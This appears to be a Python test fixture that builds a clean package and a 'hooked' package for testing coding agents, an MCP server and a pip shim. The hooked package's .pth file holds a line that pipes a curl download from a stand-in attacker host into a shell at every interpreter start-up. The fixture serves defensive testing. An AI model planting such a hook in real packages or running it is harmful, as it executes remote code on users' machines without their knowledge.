"""What the coding-agent tests (MCP server, pip shim) install: a clean package and one whose
``.pth`` file runs a download at every interpreter start-up, on a loopback index."""

from __future__ import annotations

from tests.helpers.dists import DistFactory, DistSpec
from tests.helpers.index import PackageIndex

__all__ = ["HOOKED", "clean_and_hooked"]

HOOKED = DistSpec(
    "hookpkg",
    "1.0",
    files={
        "hookpkg/__init__.py": "",
        "hookpkg_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n",
    },
)


def clean_and_hooked(dist_factory: DistFactory, package_index: PackageIndex) -> PackageIndex:
    """``package_index`` serving ``cleanpkg 1.0`` and :data:`HOOKED`."""
    package_index.add(dist_factory.wheel("cleanpkg", "1.0"))
    package_index.add(dist_factory.wheel(HOOKED))
    return package_index
